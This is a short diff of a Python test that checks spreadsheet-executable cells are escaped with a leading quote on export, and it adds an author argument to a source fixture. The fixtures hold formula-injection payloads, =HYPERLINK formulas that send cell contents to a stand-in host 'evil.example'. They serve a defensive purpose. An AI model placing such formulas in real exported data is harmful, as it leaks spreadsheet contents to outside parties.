@@ -24,7 +24,7 @@ def test_cells_a_spreadsheet_would_run_are_exported_with_a_leading_quote() -> No
     doc1, doc2 = UserFactory(username="doc1"), UserFactory(username="doc2")
     grant(doc1, Role.DOCUMENTER, campaign=campaign)
     grant(doc2, Role.DOCUMENTER, campaign=campaign)
-    source = services.source_for(title='=HYPERLINK("https://evil.example/?"&A1,"Court")')
+    source = services.source_for(by=doc1, title='=HYPERLINK("https://evil.example/?"&A1,"Court")')
     rows = [
         ('=HYPERLINK("https://evil.example/?"&B2,"Ali")', "", "", ""),
         ("+92 Ali", "=1+1", "", ""),
